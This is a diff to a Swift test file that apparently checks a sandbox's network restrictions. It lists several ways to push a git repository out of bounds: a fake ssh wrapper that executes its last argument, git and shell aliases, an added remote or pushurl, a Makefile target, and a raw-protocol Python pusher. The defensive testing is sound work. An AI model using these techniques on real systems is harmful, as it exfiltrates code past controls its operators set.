@@ -22,7 +22,7 @@ extension AttackArea {
             name, stoppedBy: [.ownNetwork, .nothingUnnamed],
             tries: python.isEmpty ? shell : python,
             neighbour: """
-                sh('git init --quiet --bare own.git; cd %s; git push --quiet $OLDPWD/own.git HEAD:refs/heads/x'
+                sh('git init -q --bare own.git; cd %s; git push -q $OLDPWD/own.git HEAD:refs/heads/x'
                     % tree)
                 """,
             harm: { ground in
@@ -46,7 +46,8 @@ extension AttackArea {
             pushes(
                 "ssh", "pushes by an ssh of its own",
                 """
-                printf '#!/bin/sh\\\\nfor last; do :; done; exec sh -c "$last"\\\\n' > /tmp/ssh; chmod +x /tmp/ssh
+                printf '#!/bin/sh\\\\nfor last; do :; done; exec sh -c "$last"\\\\n' > /tmp/ssh
+                chmod +x /tmp/ssh
                 GIT_SSH_VARIANT=simple GIT_SSH_COMMAND=/tmp/ssh git push --quiet ssh://somewhere@path @to
                 """),
             pushes("alias", "pushes by an alias", "git config alias.tidy 'push --quiet'; git tidy @git @to"),
@@ -54,7 +55,8 @@ extension AttackArea {
                 "shell-alias", "pushes by an alias that is a shell",
                 "git config alias.tidier '!git push --quiet @git @to'; git tidier"),
             pushes(
-                "remote", "pushes to a remote it adds", "git remote add away @git; git push --quiet away @to"),
+                "remote", "pushes to a remote it adds",
+                "git remote add away @git; git push --quiet away @to"),
             pushes(
                 "pushurl", "pushes to a harmless remote with another address for pushing",
                 """
@@ -77,13 +79,16 @@ extension AttackArea {
                 """),
             pushes(
                 "make", "pushes by a target of make",
-                "printf 'all:\\\\n\\\\tgit push --quiet @git @to\\\\n' > /tmp/Makefile; make --silent --file=/tmp/Makefile"
+                """
+                printf 'all:\\\\n\\\\tgit push --quiet @git @to\\\\n' > /tmp/Makefile
+                make --silent --file=/tmp/Makefile
+                """
             ),
             pushes(
                 "python", "pushes by a program that speaks the protocol itself", "",
                 python: """
                     oid = sh('cd %s && git rev-parse HEAD' % tree)
-                    pack = subprocess.run(['git', '-C', tree, 'pack-objects', '--quiet', '--stdout', '--revs'],
+                    pack = subprocess.run(['git', '-C', tree, 'pack-objects', '--stdout', '--revs'],
                         input=oid.encode(), stdout=subprocess.PIPE, check=True).stdout
                     def line(text): return b'%04x' % (len(text) + 4) + text
                     speaker = socket.create_connection(('127.0.0.1', int(git_port)))
